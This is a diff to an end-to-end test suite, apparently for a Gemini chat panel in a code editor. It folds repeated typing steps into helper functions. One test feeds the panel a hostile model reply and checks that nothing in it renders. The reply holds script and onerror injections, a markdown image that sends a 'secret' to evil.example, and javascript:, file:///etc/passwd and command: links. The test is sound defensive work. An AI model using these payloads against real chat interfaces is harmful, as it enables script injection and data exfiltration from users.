@@ -23,6 +23,17 @@ describe('the main job: ask about selected code', function () {
   const log = () => workbench.panel.getByRole('log', { name: 'Conversation' });
   const answer = (at: number) => log().getByRole('article', { name: 'Gemini' }).nth(at);
 
+  /** Types into the composer with real keys, once it has the focus. */
+  async function ask(text: string): Promise<void> {
+    await composer().and(workbench.panel.locator(':focus')).waitFor({ timeout: patience });
+    await workbench.page.keyboard.type(text);
+    await workbench.page.keyboard.press('Enter');
+  }
+  async function clickAndAsk(text: string): Promise<void> {
+    await composer().click();
+    await ask(text);
+  }
+
   before(async () => {
     workbench = await openWorkbench();
   });
@@ -48,9 +59,8 @@ describe('the main job: ask about selected code', function () {
     await workbench.selectLines(1, 5);
     await workbench.palette('Gemini: Ask About Selection');
     await workbench.panel.getByRole('list', { name: 'Attachments' }).getByText(/cart\.ts:1-5/).waitFor({ timeout: patience });
-    await workbench.page.keyboard.type('What is wrong here?');
-    await workbench.screenshot('02-question');
-    await workbench.page.keyboard.press('Enter');
+    await workbench.screenshot('02-attached');
+    await ask('What is wrong here?');
     await answer(0).getByText('The discount is').waitFor({ timeout: patience });
     assert.equal(await answer(0).getByText('applied twice').count(), 0);
     await workbench.panel.getByRole('button', { name: 'Stop' }).waitFor();
@@ -86,9 +96,7 @@ describe('the main job: ask about selected code', function () {
 
   it('asks again in the same conversation', async () => {
     workbench.emulator.script({ text: 'Once is enough.' });
-    await composer().click();
-    await workbench.page.keyboard.type('How often should it be?');
-    await workbench.page.keyboard.press('Enter');
+    await clickAndAsk('How often should it be?');
     await answer(1).getByText('Once is enough.').waitFor({ timeout: patience });
     const [first, second] = creates().slice(-2);
     assert.equal(first?.previous_interaction_id, undefined);
@@ -101,9 +109,7 @@ describe('the main job: ask about selected code', function () {
     await workbench.palette('Gemini: Open Chat');
     await answer(1).getByText('Once is enough.').waitFor({ timeout: patience });
     workbench.emulator.script({ text: 'Still here.' });
-    await composer().click();
-    await workbench.page.keyboard.type('And now?');
-    await workbench.page.keyboard.press('Enter');
+    await clickAndAsk('And now?');
     await answer(2).getByText('Still here.').waitFor({ timeout: patience });
     assert.match(creates().at(-1)?.previous_interaction_id ?? '', /^v1_/);
     assert.equal(workbench.emulator.requests.findLast(({ method }) => method === 'POST')?.headers['x-goog-api-key'], 'test-key');
@@ -112,9 +118,7 @@ describe('the main job: ask about selected code', function () {
 
   it('stops an answer with Escape and keeps what has arrived', async () => {
     workbench.emulator.script({ pieces: ['A long story. ', { gate: 'never' }, 'The end.'] });
-    await composer().click();
-    await workbench.page.keyboard.type('Tell me');
-    await workbench.page.keyboard.press('Enter');
+    await clickAndAsk('Tell me');
     await answer(3).getByText('A long story.').waitFor({ timeout: patience });
     await workbench.page.keyboard.press('Escape');
     await answer(3).getByRole('status').getByText(/stopped/i).waitFor({ timeout: patience });
@@ -124,9 +128,7 @@ describe('the main job: ask about selected code', function () {
 
   it('names a failure, and tries again at a click', async () => {
     workbench.emulator.faults.add(faultOf('blocked'));
-    await composer().click();
-    await workbench.page.keyboard.type('Once more');
-    await workbench.page.keyboard.press('Enter');
+    await clickAndAsk('Once more');
     const alert = workbench.panel.getByRole('alert');
     await alert.waitFor({ timeout: patience });
     await workbench.screenshot('07-failed');
@@ -142,9 +144,7 @@ describe('the main job: ask about selected code', function () {
     workbench.emulator.script({
       text: '<img src=x onerror="document.title=1"><script>document.title=2</script>\n\n![pixel](https://evil.example/p.png?d=secret)\n\n[click](javascript:alert(1)) [file](file:///etc/passwd) [cmd](command:workbench.action.quit)\n\n<iframe src="https://evil.example/"></iframe>',
     });
-    await composer().click();
-    await workbench.page.keyboard.type('Be evil');
-    await workbench.page.keyboard.press('Enter');
+    await clickAndAsk('Be evil');
     await log().getByText(/<img src=x/).waitFor({ timeout: patience });
     await workbench.screenshot('08-hostile');
     assert.equal(await log().locator('iframe, script, img').count(), 0);
